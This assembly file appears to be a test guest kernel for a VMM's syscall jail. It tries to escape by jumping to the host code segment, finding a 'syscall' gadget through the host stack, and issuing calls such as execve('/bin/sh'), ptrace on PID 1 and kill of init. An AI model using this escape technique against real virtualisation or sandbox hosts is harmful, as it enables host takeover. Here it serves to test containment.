/* A guest kernel that attacks the VMM from inside its process, as one who
 * knows the design would (DESIGN.md section 5): far jump to the host's
 * 64-bit code segment (0x33), where segment limits no longer apply; read
 * the VMM's register context at PV_CTX (0xff803000) for the host stack
 * pointer; walk the host stack for a return address into a host library
 * (0x7f.., not page-aligned, and preceded by a call); scan that library's code for a
 * `syscall` instruction (0f 05, any alignment); jump there with a system
 * call of its choice.  Built once per call (-DCALL_x):
 *   open    openat(AT_FDCWD, "/tmp/previrt-escaped", O_CREAT|O_WRONLY, 0644)
 *   socket  socket(AF_INET, SOCK_STREAM, 0)
 *   execve  execve("/bin/sh", NULL, NULL)
 *   ptrace  ptrace(PTRACE_ATTACH, 1, 0, 0)
 *   kill    kill(1, SIGKILL)
 *   mmap    mmap(0, 4096, PROT_READ, MAP_SHARED, 0, 0): stdin, a host file
 *   own     getpid by a `syscall` instruction of its own, in low memory
 * The jail must stop each (exit status 4, the call named); if a call gets
 * through, the guest prints "escaped" on the UART. */
#define PV_CTX 0xff803000
#define CTX_HOST_RSP 64

	.text
	.globl misbehave
misbehave:
	cli			/* one site, so the kernel is an afterburnt one */
	/* ljmp $0x33, $escape64 as bytes: an attacker does not annotate it */
	.byte	0xea
	.long	escape64
	.word	0x33

	.code64
escape64:
#if defined(CALL_own)
	mov	$39, %eax	/* getpid */
	syscall
	jmp	escaped
#else
	mov	$PV_CTX, %ebx
	mov	CTX_HOST_RSP(%rbx), %rsi	/* the VMM's stack */
	mov	$2048, %ecx			/* words above it, well inside the stack */
next_word:
	add	$8, %rsi
	dec	%ecx
	jz	escaped_fail
	mov	(%rsi), %rax
	mov	%rax, %rdx
	shr	$40, %rdx
	cmp	$0x7f, %rdx			/* mmap area: shared libraries */
	jne	next_word
	mov	%rax, %rdx
	xor	%rsi, %rdx
	shr	$32, %rdx
	jz	next_word			/* a stack address, not code */
	test	$0xfff, %eax
	jz	next_word			/* page-aligned: the base of a mapping the
						   VMM keeps (some PROT_NONE), not code */
	cmpb	$0xe8, -5(%rax)			/* a return address after a call rel32 */
	je	scan
	cmpb	$0xff, -2(%rax)			/* or after call *%reg */
	jne	next_word
scan:
	mov	%rax, %rdi
	mov	$65536, %edx
1:	cmpw	$0x050f, (%rdi)
	je	found
	inc	%rdi
	dec	%edx
	jnz	1b
	jmp	next_word
found:
	mov	%rdi, %r15			/* the syscall instruction */
#if defined(CALL_open)
	mov	$257, %eax
	mov	$-100, %rdi
	mov	$path, %esi
	mov	$0101, %edx			/* O_CREAT | O_WRONLY */
	mov	$0644, %r10d
#elif defined(CALL_socket)
	mov	$41, %eax
	mov	$2, %edi
	mov	$1, %esi
	xor	%edx, %edx
#elif defined(CALL_execve)
	mov	$59, %eax
	mov	$sh, %edi
	xor	%esi, %esi
	xor	%edx, %edx
#elif defined(CALL_ptrace)
	mov	$101, %eax
	mov	$16, %edi			/* PTRACE_ATTACH */
	mov	$1, %esi
	xor	%edx, %edx
	xor	%r10d, %r10d
#elif defined(CALL_kill)
	mov	$62, %eax
	mov	$1, %edi
	mov	$9, %esi
#elif defined(CALL_mmap)
	mov	$9, %eax
	xor	%edi, %edi
	mov	$4096, %esi
	mov	$1, %edx			/* PROT_READ */
	mov	$1, %r10d			/* MAP_SHARED */
	xor	%r8d, %r8d			/* fd 0 */
	xor	%r9d, %r9d
#else
#error "build with -DCALL_open, _socket, _execve, _ptrace, _kill, _mmap or _own"
#endif
	lea	escaped(%rip), %rcx
	push	%rcx				/* if the gadget returns, it comes here */
	jmp	*%r15
#endif

/* Only reached when a call got through (or no gadget was found): say so
 * on the UART (port 0x3f8) from 64-bit code, then spin. */
escaped_fail:
	mov	$failmsg, %esi
	jmp	say
escaped:
	mov	$okmsg, %esi
say:
	mov	$0x3f8, %dx
2:	lodsb
	test	%al, %al
	jz	3f
	outb	%al, %dx
	jmp	2b
3:	jmp	3b

	.data
path:	.asciz "/tmp/previrt-escaped"
sh:	.asciz "/bin/sh"
okmsg:	.asciz "escape: the system call got through\n"
failmsg: .asciz "escape: no syscall instruction found in host code\n"
	.section .note.GNU-stack, "", @progbits
